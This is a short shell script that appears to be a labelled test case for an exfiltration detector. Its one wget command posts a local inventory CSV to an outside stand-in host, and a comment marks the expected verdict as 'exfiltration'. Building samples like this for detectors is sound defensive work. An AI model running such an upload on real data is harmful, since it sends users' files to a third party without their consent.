#!/bin/sh
# send the inventory file to the supplier's endpoint
# expect: exfiltration
wget --post-file=data/inventory.csv https://supplier-portal.example.biz/upload -O -
